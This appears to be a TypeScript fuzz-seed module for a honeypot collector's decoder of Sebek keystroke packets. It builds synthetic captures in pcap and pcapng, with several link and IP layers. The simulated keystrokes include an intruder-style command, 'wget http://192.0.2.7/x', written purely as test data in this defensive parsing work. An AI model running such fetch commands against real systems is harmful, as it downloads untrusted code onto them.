/** Packets of Sebek: in captures of both forms, and single ones of each link layer. */
import { CaptureFramer } from '@apiary/collector/readers/capture.ts';
import { writeDatagram } from '@apiary/collector/readers/datagram.ts';
import { findUdp } from '@apiary/collector/readers/packet.ts';
import type { FuzzDecoder } from './decoder.ts';
import { decodeFramed } from './framed.ts';

const port = 1101;
const links = [0, 1, 101, 113, 228, 229, 276];

/** Sebek's head (magic, version 3, type write, counter, time, parent, pid, uid, fd, inode, command, length), keys. */
function sebekPayload(keys: string): Buffer {
  const head = Buffer.alloc(56);
  head.writeUInt32BE(0xd0d0d0d0, 0);
  head.writeUInt16BE(3, 4);
  head.writeUInt16BE(1, 6);
  head.write('bash', 40, 'latin1');
  head.writeUInt32BE(keys.length, 52);
  return Buffer.concat([head, Buffer.from(keys)]);
}

function udp(payload: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt16BE(port, 0);
  head.writeUInt16BE(port, 2);
  head.writeUInt16BE(8 + payload.length, 4);
  return Buffer.concat([head, payload]);
}

function ipv4(datagram: Buffer): Buffer {
  const head = Buffer.alloc(20);
  head[0] = 0x45;
  head.writeUInt16BE(20 + datagram.length, 2);
  head[9] = 17;
  head.set([192, 0, 2, 1, 192, 0, 2, 2], 12);
  return Buffer.concat([head, datagram]);
}

/** With a hop-by-hop extension in front of UDP. */
function ipv6(datagram: Buffer): Buffer {
  const head = Buffer.alloc(48);
  head[0] = 0x60;
  head.writeUInt16BE(8 + datagram.length, 4);
  head[40] = 17;
  return Buffer.concat([head, datagram]);
}

const ethernet = (type: number, packet: Buffer): Buffer =>
  Buffer.concat([Buffer.alloc(12), Buffer.from([type >> 8, type & 255]), packet]);

function pcap(packets: Buffer[]): Buffer {
  const head = Buffer.alloc(24);
  head.writeUInt32LE(0xa1b2c3d4, 0);
  head.writeUInt32LE(1, 20);
  const entries = packets.flatMap((packet) => {
    const entry = Buffer.alloc(16);
    entry.writeUInt32LE(packet.length, 8);
    entry.writeUInt32LE(packet.length, 12);
    return [entry, packet];
  });
  return Buffer.concat([head, ...entries]);
}

function block(type: number, body: Buffer): Buffer {
  const padded = Buffer.concat([body, Buffer.alloc((4 - (body.length % 4)) % 4)]);
  const head = Buffer.alloc(8);
  head.writeUInt32LE(type, 0);
  head.writeUInt32LE(12 + padded.length, 4);
  return Buffer.concat([head, padded, head.subarray(4)]);
}

function pcapng(packets: Buffer[]): Buffer {
  const section = Buffer.from('4d3c2b1a01000000ffffffffffffffff', 'hex');
  // Ethernet, with the option that its clock counts nanoseconds.
  const face = Buffer.from('01000000ffff0000090001000900000000000000', 'hex');
  const blocks = packets.map((packet) => {
    const head = Buffer.alloc(20);
    head.writeUInt32LE(packet.length, 12);
    head.writeUInt32LE(packet.length, 16);
    return block(6, Buffer.concat([head, packet]));
  });
  return Buffer.concat([block(0x0a0d0d0a, section), block(1, face), ...blocks]);
}

const keys = ['id\n', 'wget http://192.0.2.7/x\n'].map((text) => udp(sebekPayload(text)));
const packets = [
  ...keys.map((one) => ethernet(0x0800, ipv4(one))),
  ethernet(0x8100, Buffer.concat([Buffer.from([0, 5, 0x86, 0xdd]), ipv6(keys[0]!)])),
];

export const sebek: FuzzDecoder = {
  name: 'sebek',
  seeds: [pcap(packets), pcapng(packets), ...packets, ipv4(keys[0]!), ipv6(keys[1]!)],
  words: ['\x81\x00\x00\x05', '\x08\x00E', '\x86\xdd`', '\xd4\xc3\xb2\xa1', '\x0a\x0d\x0d\x0a'],
  decode(input) {
    const framed = decodeFramed((state) => new CaptureFramer(port, state), input);
    const single = links.map((link) => {
      const found = findUdp(input, link);
      return found === undefined ? 0 : writeDatagram(found).length;
    });
    return framed + Math.max(...single);
  },
  // Hexadecimal, in JSON of some 120 bytes, of a packet that took at least 44.
  outputMax: (input_bytes) => 12 * input_bytes + 1024,
};
